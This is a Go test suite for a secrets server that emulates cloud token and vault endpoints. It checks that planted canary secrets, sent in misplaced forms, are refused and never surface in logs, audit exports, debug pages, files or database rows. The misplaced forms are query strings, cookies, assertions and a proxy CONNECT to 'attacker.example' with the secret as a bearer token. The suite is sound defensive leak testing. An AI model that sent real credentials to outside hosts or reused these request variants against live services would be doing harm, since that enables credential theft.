package app

import (
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sealring/sealring/internal/audit"
)

// planted are all secrets that a server under attack knows, by what they are.
func (a *attacked) planted(t *testing.T, c Config) map[string]string {
	t.Helper()
	kek, err := os.ReadFile(kekOf(t, c))
	if err != nil {
		t.Fatal(err)
	}
	words := strings.Fields(string(kek))
	out := map[string]string{
		"the key-encryption key": words[len(words)-1], "the administrator's secret": a.vars["secret"], "another tenant's client secret": a.vars["othersecret"],
		"the value of a secret": "canary-of-the-vault", "an app setting": "canary-of-the-app",
	}
	for _, name := range []string{"armtoken", "graphtoken", "vaulttoken", "otherarm"} {
		out[name] = a.vars[name]
	}
	if a.vars["header"] != "" {
		out["the endpoint's secret"] = a.vars["header"]
		got := a.exchange(t, "node", "GET /msi/token?api-version=2019-08-01&resource=https://vault.azure.net HTTP/1.1\r\nHost: "+a.vars["node"]+"\r\nX-IDENTITY-HEADER: "+a.vars["header"]+"\r\nConnection: close\r\n\r\n", 1)
		var answer struct {
			Token string `json:"access_token"`
		}
		if len(got) == 0 || json.Unmarshal([]byte(got[0].body), &answer) != nil || answer.Token == "" {
			t.Fatalf("no token: %+v", got)
		}
		out["a managed identity's token"] = answer.Token
	}
	return out
}

// mistakes are requests in which a secret stands where it does not belong, or where it does
// and something else is wrong. None of them may be served.
func (a *attacked) mistakes(secret string) map[string]ask {
	v, at := a.vars, "Authorization: Bearer "+secret
	raw := func(host, line, header, body string) string {
		return fmt.Sprintf("%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\nContent-Length: %d\r\n\r\n%s", line, host, header, len(body), body)
	}
	q := url.QueryEscape(secret)
	form := "Content-Type: application/x-www-form-urlencoded"
	sts := "POST /" + v["tenant"] + "/oauth2/v2.0/token"
	good := "grant_type=client_credentials&client_id=" + v["client"] + "&scope=" + url.QueryEscape("https://vault.azure.net/.default")
	return map[string]ask{
		"token in the query of Resource Manager": {"tls", raw(v["arm"], "GET "+v["group"]+"?api-version=2022-09-01&access_token="+q, "Accept: */*", ""), 0, ""},
		"token of another kind":                  {"tls", raw(v["vault"], "GET /secrets/nothing?api-version=7.4", at+"x", ""), 0, ""},
		"basic":                                  {"tls", raw(v["graph"], "GET /v1.0/servicePrincipals", "Authorization: Basic "+secret, ""), 0, ""},
		"two of them":                            {"tls", raw(v["arm"], "GET "+v["group"]+"?api-version=2022-09-01", at+"\r\n"+at, ""), 0, ""},
		"as a cookie":                            {"tls", raw(v["graph"], "GET /v1.0/servicePrincipals", "Cookie: token="+secret, ""), 0, ""},
		"as an assertion":                        {"tls", raw(v["login"], sts, form, good+"&client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion="+q), 0, ""},
		"as a secret, with more behind it":       {"tls", raw(v["login"], sts, form, good+"&client_secret="+q+"x"), 0, ""},
		"as a secret, twice":                     {"tls", raw(v["login"], sts, form, good+"&client_secret="+q+"&client_secret="+q), 0, ""},
		"as a client id":                         {"tls", raw(v["login"], sts, form, "grant_type=client_credentials&client_secret="+q+"x&client_id="+q+"&scope=x"), 0, ""},
		"as a password":                          {"tls", raw(v["login"], sts, form, "grant_type=password&username=x&password="+q+"&client_id="+v["client"]+"&scope=x"), 0, ""},
		"as a refresh token":                     {"tls", raw(v["login"], sts, form, "grant_type=refresh_token&refresh_token="+q+"&client_id="+v["client"]+"&scope=x"), 0, ""},
		"secret in the query of sign-in":         {"tls", raw(v["login"], sts+"?client_secret="+q, form, good), 0, ""},
		"in broken JSON":                         {"tls", raw(v["vault"], "PUT /secrets/s3?api-version=7.4", "Authorization: Bearer "+v["vaulttoken"]+"\r\nContent-Type: application/json", `{"value":"`+secret+`","attributes":7}`), 0, ""},
		"in JSON that ends early":                {"tls", raw(v["arm"], "PUT "+v["group"]+"/providers/Microsoft.Web/sites/app2?api-version=2023-12-01", "Authorization: Bearer "+v["armtoken"]+"\r\nContent-Type: application/json", `{"location":"local","properties":{"password":"`+secret+`"`), 0, ""},
		"at the node, as a bearer":               {"node", raw(v["node"], "GET /msi/token?api-version=2019-08-01&resource=https://vault.azure.net", at, ""), 0, ""},
		"at the node, with more behind it":       {"node", raw(v["node"], "GET /msi/token?api-version=2019-08-01&resource=https://vault.azure.net", "X-IDENTITY-HEADER: "+secret+"x", ""), 0, ""},
		"at the node, in the query":              {"node", raw(v["node"], "GET /msi/token?api-version=2019-08-01&resource=https://vault.azure.net&secret="+q, "Accept: */*", ""), 0, ""},
		"at the metadata endpoint":               {"imds", raw(v["imds"], "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net&client_id="+q, "Metadata: true\r\nX-IDENTITY-HEADER: "+secret, ""), 0, ""},
		"at the proxy":                           {"proxy", raw("attacker.example:443", "CONNECT attacker.example:443", "Proxy-Authorization: Bearer "+secret, ""), 0, ""},
		"on the socket":                          {"socket", raw("localhost", "POST /node/v1/workloads", at, `{"resource_id":"`+secret+`","secret":"`+secret+`"}`), 0, ""},
	}
}

// finds reports which planted secrets text holds.
func finds(text string, planted map[string]string) (out []string) {
	for what, secret := range planted {
		if strings.Contains(text, secret) || strings.Contains(text, url.QueryEscape(secret)) || strings.Contains(text, hex.EncodeToString([]byte(secret))) {
			out = append(out, what)
		}
	}
	return out
}

// S-65, S-38, S-51: every secret of a server, sent to where it belongs and to where it does
// not, with the store working and not, is found in no log at any level, no record, no
// refusal, no profile, no file and no row. The finder is shown that it finds.
func TestCanaries(t *testing.T) {
	eachEngine(t, func(t *testing.T, c Config) {
		access := &lines{}
		c.AccessLog, c.Ops.Listen = access, "127.0.0.1:0"
		c.Config.Log.Checkpoints = filepath.Join(t.TempDir(), "checkpoints")
		a := attackOn(t, c)
		a.vars["ops"] = a.listeners.ops.Addr().String()
		a.otherTenant(t)
		a.put(t, a.vars["group"]+"/providers/Microsoft.Web/sites/app1?api-version=2023-12-01",
			`{"location":"local","identity":{"type":"SystemAssigned"},"properties":{"siteConfig":{"appSettings":[{"name":"PASSWORD","value":"canary-of-the-app"}]}}}`)
		planted := a.planted(t, c)
		if got := finds("x "+planted["the value of a secret"]+hex.EncodeToString([]byte(planted["armtoken"])), planted); len(got) != 2 {
			t.Fatalf("the finder finds %v", got)
		}
		play := func(when string) {
			for what, secret := range planted {
				a.askAll(t, a.mistakes(secret), func(how string, _ ask, got answer, _ time.Duration) {
					if got.status < 400 {
						t.Errorf("%s: %s, %s: served with %d", when, what, how, got.status)
					}
					if found := finds(got.body+fmt.Sprint(got.header), planted); found != nil {
						t.Errorf("%s: %s, %s: the refusal holds %v", when, what, how, found)
					}
				})
			}
			recorded, free := a.asks()
			a.askAll(t, recorded, func(string, ask, answer, time.Duration) {})
			a.askAll(t, free, func(string, ask, answer, time.Duration) {})
		}
		play("normally")
		end := tableGone(t, c)
		play("without the log's table")
		end()
		a.resumed(t)
		for _, path := range []string{"/livez", "/readyz", "/version", "/debug/pprof/", "/debug/pprof/goroutine?debug=2", "/debug/pprof/heap?debug=1", "/debug/pprof/cmdline", "/nothing"} {
			got := a.exchange(t, "ops", "GET "+path+" HTTP/1.1\r\nHost: "+a.vars["ops"]+"\r\nConnection: close\r\n\r\n", 1)
			if len(got) == 0 || finds(got[0].body, planted) != nil {
				t.Errorf("%s: %v", path, got)
			}
		}
		var exported bytes.Buffer
		if n, err := a.audit.Export(t.Context(), &exported, audit.Filter{}); err != nil || n < 20 {
			t.Fatalf("%d records, %v", n, err)
		}
		for where, text := range map[string]string{"the log": a.log.String(), "the access log": access.String(), "the audit export": exported.String()} {
			if text == "" {
				t.Errorf("%s is empty", where)
			}
			if found := finds(text, planted); found != nil {
				t.Errorf("%s holds %v", where, found)
			}
		}
		delete(planted, "an app setting") // is stored as it was given
		a.searchFiles(t, c, planted)
		a.searchRows(t, c, planted)
		if status, _, _ := a.https(t, http.MethodGet, a.vars["vault"], "/secrets/s1?api-version=7.4", a.vars["vaulttoken"], ""); status != http.StatusOK {
			t.Errorf("afterwards a secret is not served: %d", status)
		}
	})
}

// searchFiles looks into every file of the installation, running, as its bytes are.
func (a *attacked) searchFiles(t *testing.T, c Config, planted map[string]string) {
	t.Helper()
	searched := 0
	for _, root := range []string{c.Data, c.ConfigHome, filepath.Dir(c.Config.Log.Checkpoints)} {
		err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() {
				return err
			}
			text, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			searched++
			for _, found := range finds(string(text), planted) {
				switch {
				case found == "the administrator's secret" && filepath.Base(path) == adminSecretFile:
				case found == "the key-encryption key" && strings.HasSuffix(path, ".kek"):
				default:
					t.Errorf("%s holds %s", path, found)
				}
			}
			if bytes.Contains(text, []byte("PRIVATE KEY")) {
				t.Errorf("%s holds a private key", path)
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if searched < 6 {
		t.Errorf("%d files were searched", searched)
	}
}

// searchRows looks into every row of every table.
func (a *attacked) searchRows(t *testing.T, c Config, planted map[string]string) {
	t.Helper()
	db, postgres := engineOf(t, c)
	if !postgres {
		return // its files were searched
	}
	tables, err := db.QueryContext(context.Background(), "SELECT quote_ident(tablename) FROM pg_tables WHERE schemaname = current_schema()")
	if err != nil {
		t.Fatal(err)
	}
	defer tables.Close()
	var names []string
	for tables.Next() {
		var name string
		if err := tables.Scan(&name); err != nil {
			t.Fatal(err)
		}
		names = append(names, name)
	}
	if err := tables.Err(); err != nil || len(names) < 10 {
		t.Fatalf("tables %v, %v", names, err)
	}
	for _, name := range names {
		var text string
		if err := db.QueryRowContext(context.Background(), "SELECT COALESCE(STRING_AGG(t::text, ' '), '') FROM "+name+" t").Scan(&text); err != nil {
			t.Fatal(err)
		}
		if found := finds(text, planted); found != nil {
			t.Errorf("table %s holds %v", name, found)
		}
	}
}
